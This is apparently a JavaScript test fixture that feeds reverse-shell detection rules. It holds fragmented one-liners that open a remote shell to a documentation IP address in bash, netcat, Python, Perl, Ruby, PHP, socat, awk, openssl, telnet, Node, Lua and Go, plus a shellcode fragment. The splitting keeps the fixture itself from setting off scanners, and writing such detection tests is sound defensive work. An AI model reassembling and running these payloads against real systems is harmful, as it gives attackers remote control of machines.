/** Harmless samples, in pieces that only the test puts together (see ../make-samples.mjs). */
export const samples = [
  {
    rule: 'RevShell_Bash_DevTcp',
    lines: [
      ["ba", "sh -i >& /dev/", "tcp/192.0.2.7/4444 0>&1"],
      ["#"],
    ],
    without: 0,
  },
  {
    rule: 'RevShell_Netcat_Exec',
    lines: [
      ["nc -", "e /bin/", "sh 192.0.2.7 4444"],
      ["#"],
    ],
    without: 0,
  },
  {
    rule: 'RevShell_Mkfifo_Netcat',
    lines: [
      ["rm -f /tmp/f;mk", "fifo /tmp/f;cat /tmp/f|/bin/", "sh -i 2>&1|nc 192.0.2.7 4444 >/tmp/f"],
      ["#"],
    ],
    without: 0,
  },
  {
    rule: 'RevShell_Python_Dup2',
    lines: [
      ["import socket,os,pty;s=soc", "ket.soc", "ket();s.conn", "ect((\"192.0.2.7\",4444))"],
      ["os.du", "p2(s.file", "no(),0);os.du", "p2(s.fileno(),1);pty.sp", "awn(\"/bin/sh\")"],
    ],
    without: 0,
  },
  {
    rule: 'RevShell_Perl_Socket',
    lines: [
      ["use Soc", "ket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"],
      ["if(conn", "ect(S,sockaddr_", "in($p,inet_aton($i)))){open(STD", "IN,\">&S\");open(STDOUT,\">&S\");ex", "ec(\"/bin/sh -i\");};"],
    ],
    without: 0,
  },
  {
    rule: 'RevShell_Ruby_Socket',
    lines: [
      ["c=TCPSoc", "ket.new(\"192.0.2.7\",\"4444\");while(cmd=c.gets);IO.pop", "en(cmd,\"r\"){|io|c.print io.read}end"],
      ["#"],
    ],
    without: 0,
  },
  {
    rule: 'RevShell_PHP_Fsockopen',
    lines: [
      ["$sock=fsock", "open(\"192.0.2.7\",4444);"],
      ["ex", "ec(\"/bin/", "sh -i <&", "3 >&3 2>&3\");"],
    ],
    without: 0,
  },
  {
    rule: 'RevShell_Socat_Pty',
    lines: [
      ["soc", "at exec:'ba", "sh -li',pty,stderr,setsid tcp:192.0.2.7:4444"],
      ["#"],
    ],
    without: 0,
  },
  {
    rule: 'RevShell_Awk_Inet',
    lines: [
      ["a", "wk 'BEGIN {s = \"/in", "et/tcp/0/192.0.2.7/4444\"; while(1){ s |& get", "line c; while ((c |& getline) > 0) print $0 |& s; }}'"],
      ["#"],
    ],
    without: 0,
  },
  {
    rule: 'RevShell_OpenSSL_Client',
    lines: [
      ["/bin/", "sh -i < /tmp/s 2>&1 | open", "ssl s_cli", "ent -quiet -connect 192.0.2.7:443 > /tmp/s"],
      ["#"],
    ],
    without: 0,
  },
  {
    rule: 'RevShell_Telnet_Pipe',
    lines: [
      ["tel", "net 192.0.2.7 4444 | /bin/", "sh | tel", "net 192.0.2.7 4445"],
      ["#"],
    ],
    without: 0,
  },
  {
    rule: 'RevShell_Node_Net',
    lines: [
      ["var net=req", "uire(\"net\"),sh=require(\"child_process\").sp", "awn(\"/bin/sh\",[]);"],
      ["var c=new net.Socket();c.conn", "ect(4444,\"192.0.2.7\",function(){c.pi", "pe(sh.st", "din);sh.stdout.pipe(c);});"],
    ],
    without: 0,
  },
  {
    rule: 'RevShell_Lua_Socket',
    lines: [
      ["local s=req", "uire(\"socket\") local t=s.tc", "p() t:connect(\"192.0.2.7\",4444)"],
      ["while true do local r=t:rece", "ive() local f=io.pop", "en(r,\"r\") t:send(f:read(\"*a\")) end"],
    ],
    without: 0,
  },
  {
    rule: 'RevShell_ELF_Shell_Args', as: 'executable',
    lines: [
      ["/bin/", "sh"],
      ["H\u00ff\u00cej!X\u000f\u0005u\u00f6"],
    ],
    without: 0,
  },
  {
    rule: 'RevShell_Golang_Listener',
    lines: [
      ["c, _ := net.Di", "al(\"tcp\", \"192.0.2.7:4444\"); cmd := exec.Com", "mand(\"/bin/sh\")"],
      ["cmd.Std", "in = c; cmd.Stdout = c"],
    ],
    without: 0,
  },
];
